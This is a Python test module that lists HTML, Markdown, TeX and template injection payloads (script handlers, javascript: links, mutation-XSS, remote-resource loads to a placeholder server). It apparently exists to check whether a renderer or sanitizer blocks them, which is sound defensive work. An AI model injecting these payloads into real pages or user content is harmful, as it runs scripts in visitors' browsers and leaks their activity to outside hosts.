"""Texts that run a script or ask a server elsewhere for something, where they are taken for HTML.

``{away}`` is the address of that server, ``{n}`` the number of the payload. A script that runs
writes its number into ``window.harmed``.
"""

from __future__ import annotations

# In a page without protection these do harm by themselves, without a click: the control shows it.
LOUD = (
    '<img src="{away}/{n}">',
    '<img src=x onerror="harmed.push({n})">',
    '<svg onload="harmed.push({n})"></svg>',
    '<svg><image href="{away}/{n}"></image></svg>',
    '<iframe src="{away}/{n}"></iframe>',
    '<iframe srcdoc="<script>parent.harmed.push({n})</script>"></iframe>',
    '<object data="{away}/{n}"></object>',
    '<embed src="{away}/{n}">',
    '<link rel="stylesheet" href="{away}/{n}">',
    '<style>@import "{away}/{n}";</style>',
    '<p style="background: url({away}/{n})">text</p>',
    '<img srcset="{away}/{n} 1x">',
    '<picture><source srcset="{away}/{n}"><img></picture>',
    '<video poster="{away}/{n}"></video>',
    '<audio src="{away}/{n}" autoplay></audio>',
    '<video><source src="{away}/{n}" onerror="harmed.push({n})"></video>',
    '<input type="image" src="{away}/{n}">',
    '<input autofocus onfocus="harmed.push({n})">',
    '<details open ontoggle="harmed.push({n})"><summary>more</summary></details>',
    '<table background="{away}/{n}"><tr><td>cell</td></tr></table>',
    "<style>@keyframes k{n} {{}}</style>"
    '<b style="animation: k{n} 1s" onanimationstart="harmed.push({n})">',
    '<svg><animate onbegin="harmed.push({n})" attributeName="x" dur="1s"></animate></svg>',
    "<style>p::before {{ content: url({away}/{n}) }}</style>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--><img src=x onerror=harmed.push({n})>">',
)

# These need a click, a parser of Markdown, TeX or templates, or a place within a script.
QUIET = (
    "<script>harmed.push({n})</script>",
    "</script><script>harmed.push({n})</script>",
    "</textarea></title></style><script>harmed.push({n})</script>",
    '"><script>harmed.push({n})</script>',
    "'-harmed.push({n})-'",
    "\\u003cscript\\u003eharmed.push({n})\\u003c/script\\u003e",
    "&lt;img src=x onerror=harmed.push({n})&gt;",
    "&amp;lt;script&amp;gt;harmed.push({n})&amp;lt;/script&amp;gt;",
    "]]><script>harmed.push({n})</script>",
    "--><script>harmed.push({n})</script>",
    "![x]({away}/{n})",
    '![x]({away}/{n} "title")',
    "![x][r{n}]\u2028[r{n}]: {away}/{n}",
    "[click](javascript:harmed.push({n}))",
    "[click](data:text/html,<script>harmed.push({n})</script>)",
    "<{away}/{n}>",
    '<a href="javascript:harmed.push({n})">click</a>',
    '<a href="java&#10;script:harmed.push({n})">click</a>',
    '<a href="{away}/{n}" ping="{away}/{n}">click</a>',
    '<form action="{away}/{n}"><button>Send</button></form>',
    '<meta http-equiv="refresh" content="0; url={away}/{n}">',
    '<base href="{away}/{n}/">',
    '<link rel="dns-prefetch preconnect prefetch" href="{away}/{n}">',
    "$$\\href{{javascript:harmed.push({n})}}{{x}}\\includegraphics{{{away}/{n}}}$$",
    "```mermaid\u2028graph LR; a[<img src=x onerror=harmed.push({n})>]\u2028```",
    "{{{{constructor.constructor('harmed.push({n})')()}}}}",
    "${{harmed.push({n})}}",
    "<template><img src={away}/{n}></template>",
    "<noscript><p title='</noscript><img src=x onerror=harmed.push({n})>'>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=harmed.push({n})>#x'></use></svg>",
    "<x-y contenteditable onblur=harmed.push({n}) tabindex=1 autofocus>text</x-y>",
    "<button class=copy onclick=harmed.push({n})>Copy</button>",
    '<a class="cite" href="{away}/{n}">1</a>',
)


def write_payloads(away: str) -> list[str]:
    """Return all payloads, the loud ones first."""
    return [text.format(away=away, n=n) for n, text in enumerate((*LOUD, *QUIET))]
